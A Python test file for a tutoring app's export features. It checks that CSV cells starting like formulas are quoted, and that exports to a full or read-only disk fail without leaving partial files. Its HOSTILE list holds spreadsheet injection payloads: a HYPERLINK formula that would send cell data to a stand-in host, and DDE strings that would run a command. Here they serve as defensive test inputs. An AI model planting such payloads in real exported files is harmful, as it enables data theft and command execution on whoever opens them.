"""Exports are safe to open and whole or absent: CSV cells never run as formulas, and a full
or read-only folder gives a clear failure with no file (not even a half one) left behind."""

from __future__ import annotations

import csv
import errno

import pytest

from tests.filesystems import fill, no_partial_files, small_tmpfs
from tutor.exports.csv_export import Scope, safe_cell, write_csv
from tutor.storage.packs import export_pack
from tutor.storage.safe_files import write_problem

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_begins_like_a_formula_gets_a_single_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-2", "-1,5", "+4.25", "12", -3, 2.5, "", "Jeanne", "a=b"])
def test_numbers_and_plain_text_are_kept(value):
    assert safe_cell(value) == value


def test_the_exported_table_neutralises_hostile_names(tmp_path, store, catalogue):
    from tests.storage.helpers import play

    lesson = sorted(catalogue.lessons.values(), key=lambda x: x.id)[0]
    names = ["=1+1", "+Marie", "-Louise", "@Paul"]
    for name in names:
        person = store.learners.add(name, "mdi6.cat", "#0b4a85")
        play(store, person.id, lesson.id, lesson.step_count)
    columns = {  # first name and two numbers: in both exports
        False: ("Prénom", "Aides", "Aides"),
        True: ("first_name", "runs", "time_spent_min"),
    }
    for technical, (first_name, runs, minutes) in columns.items():
        path = tmp_path / "progress.csv"
        write_csv(store, path, Scope.all(), ";", catalogue=catalogue, technical=technical)
        with open(path, encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.DictReader(handle, delimiter=";"))
        assert sorted(row[first_name] for row in rows) == sorted("'" + name for name in names)
        for row in rows:  # numeric columns are still plain numbers
            assert row[runs].isdigit() and row[minutes].replace(",", "").isdigit()


@pytest.fixture
def filled_store(store, catalogue):
    from tutor.storage.demo import make_demo_data

    make_demo_data(store, catalogue, learners=12, seed=4)
    return store


def _writers(store, catalogue):
    from tutor.exports.pdf import write_report_pdf
    from tutor.exports.stand import write_figures_csv

    return {
        "csv": lambda path: write_csv(store, path, Scope.all(), catalogue=catalogue),
        "pdf": lambda path: write_report_pdf(store, catalogue, path, Scope.all()),
        "figures": lambda path: write_figures_csv(store.stand.figures(), catalogue, path),
        "pack": lambda path: export_pack(store.opened.db, path),
    }


@pytest.mark.parametrize("kind", ["csv", "pdf", "figures", "pack"])
def test_a_full_disk_fails_clearly_and_leaves_no_file(tmp_path, filled_store, catalogue, kind):
    with small_tmpfs(tmp_path / "stick", 256) as stick:
        fill(stick, leave_bytes=2048)
        target = stick / f"out.{kind}"
        with pytest.raises(OSError) as caught:
            _writers(filled_store, catalogue)[kind](target)
        assert caught.value.errno == errno.ENOSPC
        assert write_problem(caught.value) == "le disque ou la clé USB est plein"
        assert no_partial_files(stick) == []


def test_a_pdf_on_a_nearly_full_disk_is_never_reported_as_written(
    tmp_path, filled_store, catalogue
):
    """Qt's PDF writer says nothing when the disk fills: the cut file must be caught."""
    from tutor.exports.pdf import write_report_pdf

    for room in (0, 4096, 40_000):
        with small_tmpfs(tmp_path / f"room-{room}", 512) as stick:
            fill(stick, leave_bytes=room)
            with pytest.raises(OSError):
                write_report_pdf(filled_store, catalogue, stick / "rapport.pdf", Scope.all())
            assert no_partial_files(stick) == []


@pytest.mark.parametrize("kind", ["csv", "pdf", "pack"])
def test_a_read_only_folder_fails_clearly(tmp_path, filled_store, catalogue, kind):
    with small_tmpfs(tmp_path / "locked", 256, read_only=True) as locked:
        with pytest.raises(OSError) as caught:
            _writers(filled_store, catalogue)[kind](locked / f"out.{kind}")
        assert write_problem(caught.value) == "le dossier est en lecture seule"
        assert no_partial_files(locked) == []


def test_a_failed_export_keeps_the_older_file_whole(tmp_path, filled_store, catalogue):
    with small_tmpfs(tmp_path / "stick", 512) as stick:
        older = stick / "progress.csv"
        write_csv(filled_store, older, Scope.all(), catalogue=catalogue)
        kept = older.read_bytes()
        fill(stick, leave_bytes=1024)
        with pytest.raises(OSError):
            write_csv(filled_store, older, Scope.all(), catalogue=catalogue)
        assert older.read_bytes() == kept
        assert no_partial_files(stick) == ["progress.csv"]


def test_a_good_export_leaves_only_its_file(tmp_path, filled_store, catalogue):
    for kind, write in _writers(filled_store, catalogue).items():
        write(tmp_path / f"out.{kind}")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("out")) == [
        "out.csv", "out.figures", "out.pack", "out.pdf",
    ]  # fmt: skip
    assert not [p for p in tmp_path.iterdir() if p.suffix in (".tmp", ".partial")]
